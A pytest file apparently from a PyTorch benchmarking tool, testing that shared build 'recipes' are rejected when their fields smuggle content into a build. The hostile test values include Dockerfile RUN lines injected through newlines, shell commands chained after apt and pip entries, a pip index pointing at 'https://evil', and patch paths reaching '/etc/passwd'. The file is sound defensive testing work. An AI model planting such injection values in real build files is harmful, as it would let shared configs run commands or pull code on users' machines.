"""Recipes are shared files: a user who loads someone else's recipe must not get a shell command, a Dockerfile
instruction, a pip index or a file outside patches/ smuggled into their build. Given a recipe with such a value,
loading it fails with one line naming the file and the key; the unusual-but-honest values still load."""

from __future__ import annotations

import datetime
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from foundation.errors import UserError
from prbench import inductor_options
from prbench.sides import patches as patch_tool
from prbench.sides.recipes import load_recipe
from tests.support.recipe_support import DIGEST, SHA, docker_recipe, load_error, set_key, to_toml, write

TEST_RECIPES = Path(__file__).resolve().parent / "recipes"


def cuda(data: dict[str, Any]) -> dict[str, Any]:
    data["platform"] = "cuda"
    data["arch"] = ["9.0"]
    return data


Edit = Callable[[dict[str, Any]], dict[str, Any]]

# story: (edit of a valid docker recipe, the key the error must name, other fragments it must hold)
HOSTILE: dict[str, tuple[Edit, str, list[str]]] = {
    "a newline in the base image name injects a RUN line": (
        lambda d: set_key(d, "base_image.name", "rocm/pytorch:latest\nRUN touch /tmp/x"),
        "'base_image.name'", ["control characters"]),
    "a space and a second instruction in the base image name": (
        lambda d: set_key(d, "base_image.name", "rocm/pytorch AS x"), "'base_image.name'", ["expected an image name"]),
    "an upper-case repository (Docker refuses it, later and less clearly)": (
        lambda d: set_key(d, "base_image.name", "ROCm/PyTorch:latest"), "'base_image.name'", ["lower-case"]),
    "a tag longer than 128 characters": (
        lambda d: set_key(d, "base_image.name", "rocm/pytorch:" + "t" * 129), "'base_image.name'", []),
    "a newline after the digest": (
        lambda d: set_key(d, "base_image.digest", DIGEST + "\n"), "'base_image.digest'", ["sha256:<64 hex>"]),
    "a shell command after an apt package": (
        lambda d: set_key(d, "build.apt", ["git", "curl; touch /tmp/x"]), "'build.apt[1]'",
        ["expected a Debian package name (like curl or python3-dev=3.11.2-1), got 'curl; touch /tmp/x'"]),
    "an apt option that runs a command during the install": (
        lambda d: set_key(d, "build.apt", ["-oDPkg::Pre-Invoke::=touch /tmp/x"]), "'build.apt[0]'",
        ["Debian package name"]),
    "a shell command after a GPU architecture": (
        lambda d: set_key(d, "arch", ["gfx942; touch /tmp/x"]), "'arch[0]'", ["like gfx942"]),
    "nvcc's sm_90 in a CUDA recipe (TORCH_CUDA_ARCH_LIST does not take it)": (
        lambda d: set_key(cuda(d), "arch", ["sm_90a"]), "'arch[0]'", ["like 9.0", "write it as 9.0a"]),
    "a ROCm architecture in a CUDA recipe": (
        lambda d: set_key(cuda(d), "arch", ["gfx942"]), "'arch[0]'", ["CUDA compute capability"]),
    "a pip option instead of a package": (
        lambda d: set_key(d, "pip", {"extra": ["--index-url=https://evil"]}), "'pip.extra[0]'", ["pip option"]),
    "a pip direct URL reference": (
        lambda d: set_key(d, "pip", {"extra": ["torch @ https://evil.example/torch.whl"]}), "'pip.extra[0]'",
        ["direct URL"]),
    "a shell command after a pip pin": (
        lambda d: set_key(d, "pip", {"extra": ["transformers==4.57.1; touch /tmp/x"]}), "'pip.extra[0]'",
        ["expected a requirement"]),
    "a patch that climbs out of patches/": (
        lambda d: set_key(d, "patches", ["pytorch:../../../etc/passwd"]), "'patches[0]'", ["'..'"]),
    "an absolute patch path": (lambda d: set_key(d, "patches", ["pytorch:/etc/passwd"]), "'patches[0]'", ["absolute"]),
    "a patch for a tree the build does not have": (
        lambda d: set_key(d, "patches", ["numpy:fix.patch"]), "'patches[0]'", ["'pytorch:<file in patches/>'"]),
    "a newline in an environment value": (
        lambda d: set_key(d, "env.HIP_FLAGS", "1\nRUN touch /tmp/x"), "'env.HIP_FLAGS'", ["control characters"]),
    "a NUL in an environment value": (lambda d: set_key(d, "env.HIP_FLAGS", "a\x00b"), "'env.HIP_FLAGS'", ["'\\x00'"]),
    "a newline in an environment variable name": (
        lambda d: set_key(d, "env", {"A\nRUN touch /tmp/x": "1"}), "'env.A\\nRUN touch /tmp/x'",
        ["environment variable name"]),
    "a newline in the description": (
        lambda d: set_key(d, "description", "fine\nRUN touch /tmp/x"), "'description'", ["control characters"]),
    "a terminal escape in a source": (
        lambda d: set_key(d, "pytorch.source", "https://github.com/pytorch/pytorch.git\x1b[2J"), "'pytorch.source'",
        ["control characters"]),
    "a newline after the commit SHA": (
        lambda d: set_key(d, "pytorch.commit", SHA + "\n"), "'pytorch.commit'", ["control characters"]),
    "a datetime as an Inductor setting": (
        lambda d: set_key(d, "inductor_config", {"max_autotune": datetime.date(2024, 1, 1)}),
        "'inductor_config'", ["JSON value"]),
}


@pytest.mark.parametrize("edit, key, fragments", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_recipe_fails_to_load_with_one_line_naming_the_key(
    tmp_path: Path, edit: Edit, key: str, fragments: list[str]
) -> None:
    data = edit(docker_recipe())
    path = write(tmp_path, _toml_with_dates(data))

    message = load_error(path)  # one line, names the file

    assert f"key {key}" in message, message
    for fragment in fragments:
        assert fragment in message, message


def _toml_with_dates(data: dict[str, Any]) -> str:
    """to_toml, except that a date is written as a TOML date (JSON has none)."""
    dates = {k: v for k, v in data.get("inductor_config", {}).items() if hasattr(v, "isoformat")}
    if not dates:
        return to_toml(data)
    data["inductor_config"] = {k: v for k, v in data["inductor_config"].items() if k not in dates}
    return to_toml(data) + "".join(f'"{k}" = {v.isoformat()}\n' for k, v in dates.items())


# --- honest values that look unusual still load --------------------------------------------------------------


VALID: dict[str, Edit] = {
    "a registry with a port, a nested path and a tag": lambda d: set_key(
        d, "base_image.name", "registry.example.com:5000/team/rocm/pytorch:7.0-rc1_ubuntu22.04"),
    "a registry on localhost": lambda d: set_key(d, "base_image.name", "localhost/pytorch"),
    "separators in the path": lambda d: set_key(d, "base_image.name", "my_org/rocm__dev/py-torch.x:v1"),
    "versioned and symbol-named apt packages": lambda d: set_key(
        d, "build.apt", ["python3-dev=3.11.2-1", "libfoo1=1:2.0~rc1-3ubuntu1", "g++", "libstdc++6"]),
    "CUDA capabilities with suffixes": lambda d: set_key(cuda(d), "arch", ["8.6+PTX", "9.0a", "10.0f", "12.0"]),
    "ROCm architectures with letters and four digits": lambda d: set_key(d, "arch", ["gfx90a", "gfx942", "gfx1100"]),
    "pip pins with extras, ranges and markers": lambda d: set_key(
        d, "pip", {"extra": ['transformers[torch]>=4.40,<5; python_version >= "3.10"', "numpy", "scipy~=1.11"]}),
    "an environment value with quotes, dollars and backslashes": lambda d: set_key(
        d, "env.HIP_FLAGS", 'say "hi" $HOME C:\\path'),
    "a number as an environment value": lambda d: set_key(d, "env.OMP_NUM_THREADS", 4),
}


@pytest.mark.parametrize("edit", VALID.values(), ids=VALID.keys())
def test_an_unusual_but_honest_recipe_loads(tmp_path: Path, edit: Edit) -> None:
    path = write(tmp_path, edit(docker_recipe()))

    recipe = load_recipe(str(path), tmp_path)

    assert recipe.base_image is not None and recipe.base_image.reference.endswith("@" + DIGEST)


def test_a_registry_port_with_a_tag_keeps_the_port_in_the_reference(tmp_path: Path) -> None:
    path = write(tmp_path, set_key(docker_recipe(), "base_image.name", "registry.example.com:5000/team/torch:v1"))

    recipe = load_recipe(str(path), tmp_path)

    assert recipe.base_image is not None
    assert recipe.base_image.reference == f"registry.example.com:5000/team/torch@{DIGEST}"


@pytest.mark.parametrize("path", sorted(TEST_RECIPES.glob("*.toml")), ids=lambda p: p.stem)
def test_the_docker_test_recipes_pass_the_schema(path: Path) -> None:
    recipe = load_recipe(str(path), TEST_RECIPES)

    assert recipe.is_docker


# --- the recipe name is the image name -----------------------------------------------------------------------


def test_a_docker_recipe_whose_file_name_cannot_be_an_image_name_fails(tmp_path: Path) -> None:
    path = write(tmp_path, docker_recipe(), name="My Recipe")

    message = load_error(path)

    assert "recipe name 'My Recipe'" in message and "prbench/<name>" in message


def test_a_local_recipe_may_have_any_printable_file_name(tmp_path: Path) -> None:
    recipe = load_recipe(str(write(tmp_path, 'platform = "cpu"\n', name="My Laptop")), tmp_path)

    assert recipe.name == "My Laptop"


# --- patches come from patches/ and nowhere else -------------------------------------------------------------


@pytest.fixture
def patches_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A patches/ folder of our own, so these tests never write into the repository's."""
    root = tmp_path / "patches"
    (root / "sub").mkdir(parents=True)
    (root / "fix.patch").write_text("--- a/x\n+++ b/x\n")
    (root / "sub" / "deep.patch").write_text("--- a/y\n+++ b/y\n")
    (tmp_path / "outside.patch").write_text("--- a/z\n+++ b/z\n")
    (root / "escape.patch").symlink_to(tmp_path / "outside.patch")
    (root / "inside-link.patch").symlink_to(root / "fix.patch")
    monkeypatch.setattr(patch_tool, "PATCHES_DIR", root)
    return root


def test_patches_inside_patches_dir_load(tmp_path: Path, patches_dir: Path) -> None:
    entries = ["pytorch:fix.patch", "triton:sub/deep.patch", "pytorch:inside-link.patch"]
    path = write(tmp_path, set_key(docker_recipe(), "patches", entries))

    recipe = load_recipe(str(path), path.parent)

    assert recipe.patches == tuple(entries)


@pytest.mark.parametrize("entry, fragment", [
    ("pytorch:escape.patch", "outside"),  # a symlink in patches/ pointing out of it
    ("pytorch:missing.patch", "no such file"),
    ("pytorch:sub", "no such file"),  # a folder is not a patch
    ("pytorch:sub/../../outside.patch", "'..'"),
    ("pytorch:", "'pytorch:<file in patches/>'"),
])
def test_a_patch_entry_that_is_not_a_file_in_patches_dir_fails(
    tmp_path: Path, patches_dir: Path, entry: str, fragment: str
) -> None:
    path = write(tmp_path, set_key(docker_recipe(), "patches", ["triton:fix.patch", entry]))

    message = load_error(path)

    assert "key 'patches[1]'" in message and fragment in message, message


def test_a_build_resolves_patches_by_the_same_rule(patches_dir: Path) -> None:
    from prbench.images.build import _patch_file

    patch = _patch_file("triton:sub/deep.patch", "recipe x: key 'patches'")

    assert patch.path == (patches_dir / "sub" / "deep.patch").resolve() and patch.target == "triton"


# --- Inductor settings ---------------------------------------------------------------------------------------


@pytest.mark.xdist_group("torch-in-process")  # torch in the test process: one worker imports it
def test_a_misspelt_inductor_setting_fails_naming_the_file_and_the_setting(tmp_path: Path) -> None:
    pytest.importorskip("torch._inductor.config")
    path = write(tmp_path, set_key(docker_recipe(), "inductor_config", {"triton.cudagraph": False}))

    message = load_error(path)

    assert "key 'inductor_config': inductor config 'triton.cudagraph'" in message
    assert "did you mean 'triton.cudagraphs'" in message


def test_a_recipe_without_inductor_settings_never_imports_inductor(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_import() -> None:
        raise AssertionError("torch._inductor.config was imported for a recipe without inductor_config")

    monkeypatch.setattr(inductor_options, "_inductor_config", no_import)

    recipe = load_recipe(str(write(tmp_path, docker_recipe())), tmp_path)

    assert recipe.inductor_config == {}


def test_a_recipe_file_name_with_a_newline_fails_in_one_line(tmp_path: Path) -> None:
    path = write(tmp_path, 'platform = "cpu"\n', name="evil\nRUN touch x")

    with pytest.raises(UserError) as info:
        load_recipe(str(path), tmp_path)

    assert "\n" not in str(info.value) and "file name has control characters" in str(info.value)
